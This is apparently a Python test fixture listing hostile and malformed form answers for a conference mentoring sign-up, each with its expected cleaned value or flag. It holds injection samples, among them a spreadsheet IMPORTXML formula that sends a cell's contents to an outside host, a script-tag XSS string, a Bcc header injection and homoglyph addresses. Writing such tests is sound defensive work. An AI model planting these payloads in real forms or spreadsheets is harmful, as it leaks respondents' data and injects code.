"""What people type into a form, in every way it can be hostile or broken: one row of the docs each."""

from tests.reliability.rows import Answers, Outcome, Texts

EMAIL, NAME, ROLE = "Email Address", "What is your full name?", "How would you like to take part?"
ATTENDANCE, FIELDS = "How will you attend the conference?", "Which fields do you work in?"
CAPACITY, NOTES = "Mentors: how many mentees could you take on?", "Anything we should know?"
FLAG = Outcome.FLAG


def email(what: str, typed: str, name: str, reads: str = "", problem: str = "") -> Answers:
    """Somebody called ``name`` who types an address in some way."""
    person = ({EMAIL: typed, NAME: name},)
    if not problem:
        return Answers(what, person, {"Email": reads, "Name": name})
    told = f"the address {name} gave in Form Responses 1 {problem}."
    return Answers(what, person, outcome=FLAG, told=told)


def named(what: str, typed: str, address: str, reads: str | None = None, told: str = "") -> Answers:
    """Somebody who types a name in some way; told about is whoever is held."""
    outcome = FLAG if told else Outcome.OK
    return Answers(what, ({EMAIL: address, NAME: typed},), {"Name": typed if reads is None else reads}, outcome, told)


def said(what: str, typed: str, number: int) -> Answers:
    """Somebody who answers something hostile, which stays the text it is."""
    return Answers(what, ({EMAIL: f"says{number}@example.org", NOTES: typed},), {"Notes": typed})


def takes(what: str, typed: str, address: str, reads: str, problem: str = "") -> Answers:
    """A mentor who takes so many mentees."""
    told = f"the capacity of {address}, “{typed}”, {problem}." if problem else ""
    person = {EMAIL: address, NAME: address, ROLE: "As a mentor", CAPACITY: typed}
    return Answers(what, ({**person, NAME: ""},), {"Capacity": reads}, told=told)


ADDRESSES = (
    email("an address with spaces before, behind and within", "  ada @example.org ", "Ada Space", "ada@example.org"),
    email("a space that does not break (NBSP)", "bea@example.org\u00a0", "Bea Nbsp", "bea@example.org"),
    email("a space of no width", "\u200bcy@exam\u200bple.org", "Cy Zero", "cy@example.org"),
    email("capitals", "DEE@Example.ORG", "Dee Capitals", "dee@example.org"),
    email("`Eve <eve@…>`, as mail programs show it", "Eve <eve@example.org>", "Eve Display", "eve@example.org"),
    email('`"Last, First" <…>`', '"Foe, Fay" <fay@example.org>', "Fay Foe", "fay@example.org"),
    email("`mailto:`, with a subject", "mailto:gil@example.org?subject=Hi", "Gil Mailto", "gil@example.org"),
    email("a full stop or semicolon at the end", "hal@example.org.;", "Hal Stop", "hal@example.org"),
    email(
        "letters of full width (Japanese keyboards)", "ｉａｎ＠ｅｘａｍｐｌｅ．ｏｒｇ", "Ian Wide", "ian@example.org"
    ),
    email("a domain in its own letters (IDN)", "jan@müller.example.org", "Jan Idn", "jan@müller.example.org"),
    email(
        "the same domain as machines write it", "joe@xn--mller-kva.example.org", "Joe Puny", "joe@müller.example.org"
    ),
    email(
        "Latin letters with a Cyrillic one among them",
        "k\u0430t@example.org",
        "Kat Mixed",
        problem="mixes letters of several alphabets that look alike",
    ),
    email("two in one cell", "liv@example.org, lou@example.org", "Liv Two", problem="holds two addresses"),
    email("the same twice in one cell", "mia@example.org; MIA@example.org", "Mia Twice", "mia@example.org"),
    email(
        "a line break and a header of a mail (`Bcc:`)",
        "ned@example.org\nBcc: all@example.com",
        "Ned Header",
        problem="holds a line break",
    ),
    email("words beside it", "ola perhaps@example.org", "Ola Words", problem="holds more than an address"),
    email("no address at all", "n/a", "Pia None", problem="is no address"),
    email("none", "", "Qi Blank", problem="is blank"),
    email("one that begins like a formula", "=1+1@example.org", "Ray Formula", "=1+1@example.org"),
)
NAMES = (
    named("the name `Nan`", "Nan", "nan@example.org"),
    named("the name `None`", "None", "none@example.org"),
    named("the name `007`", "007", "bond@example.org"),
    named("the name `TRUE`", "TRUE", "true@example.org"),
    named("letters turned round (RTL override)", "Ada \u202eecalevoL", "rtl@example.org", "Ada ecalevoL"),
    named("letters of no width", "A\u200bd\u2060a\ufeff", "thin@example.org", "Ada"),
    named("Arabic, Chinese, accents, emoji", "د. آدا 王小明 José 🚀", "scripts@example.org"),
    named(
        "300 characters",
        "x" * 300,
        "long@example.org",
        told="the name of long@example.org has 300 characters.",
    ),
    named(
        "a name that is an address",
        "other@example.org",
        "named@example.org",
        told="the name of named@example.org looks like an address.",
    ),
    named("a line break in a name, and a header", "Ada\nBcc: all@", "lines@example.org", "Ada Bcc: all@"),
    named("HTML in a name", "<b onclick=x>Ada</b>", "html@example.org"),
    named("template syntax in a name", "{{ name }} {% for %}", "braces@example.org"),
    named("a formula in a name", "=HYPERLINK(A1)", "link@example.org"),
    named("no name", "", "nameless@example.org", ""),
)
ANSWERS = (
    said("`=1+1` as an answer", "=1+1", 1),
    said("`=IMPORTXML(…)`", '=IMPORTXML(CONCAT("https://example.com/?",A1),"//a")', 2),
    said("`+1`", "+1", 3),
    said("`-1+1`", "-1+1", 4),
    said("`@SUM(A1)`", "@SUM(A1)", 5),
    said("`'=1`, with an apostrophe", "'=1", 6),
    said("`{=1}`", "{=1}", 7),
    said("`=` of full width", "＝1+1", 8),
    said("a number, a date, a percentage, a fraction", "1/2", 9),
    said("HTML with a script", "<script>alert(1)</script>&amp;", 10),
    said("template syntax", "{{ settings.form }}{% raw %}${x}%(y)s", 11),
    said("a terminal's control codes in brackets", "[bold red]x[/] \\x1b[31m", 12),
)
CAPACITIES = (
    takes("capacity `2`", "2", "two@example.org", "2"),
    takes("capacity `2-3`", "2-3", "range@example.org", ""),
    takes("capacity `lots`", "lots", "lots@example.org", ""),
    takes("capacity `1,5`", "1,5", "half@example.org", ""),
    takes("capacity `three`", "three", "three@example.org", "3"),
    takes("capacity `0`", "0", "zero@example.org", "0"),
    takes("capacity `-1`", "-1", "minus@example.org", ""),
)
PEOPLE = (
    Answers(
        "the same answer twice",
        ({EMAIL: "twin@example.org", NAME: "Twin One"}, {EMAIL: "twin@example.org", NAME: "Twin One"}),
        {"Name": "Twin One"},
    ),
    Answers(
        "two answers, one address in capitals",
        ({EMAIL: "upper@example.org", NAME: "Upper Old"}, {EMAIL: "UPPER@example.org", NAME: "Upper New"}),
        {"Name": "Upper New"},
    ),
    Answers(
        "two addresses that differ by `+tag`",
        ({EMAIL: "tag@example.org", NAME: "Tag One"}, {EMAIL: "tag+conf@example.org", NAME: "Tag Two"}),
        {"Name": "Tag One"},
        told="tag+conf@example.org and tag@example.org may be one person.",
    ),
)
GROUPS = {
    "Addresses": ADDRESSES,
    "Names": NAMES,
    "Formulas, HTML, template syntax": ANSWERS,
    "How many mentees": CAPACITIES,
    "The same person in several forms": PEOPLE,
}
HEADINGS = ("Timestamp", EMAIL, NAME, ROLE, ATTENDANCE, FIELDS, CAPACITY, NOTES)


def row(number: int, address: str, name: str, texts: Texts | None = None) -> list[str]:
    """A row of answers: a mentee with nothing odd about them, but for ``texts``."""
    told = {"Timestamp": f"2027/05/01 10:{number // 60:02}:{number % 60:02}", EMAIL: address, NAME: name}
    plain = {ROLE: "As a mentee", ATTENDANCE: "In person", FIELDS: "Physics"}
    answers = {**told, **plain, **(texts or {})}
    return [answers.get(heading, "") for heading in HEADINGS]
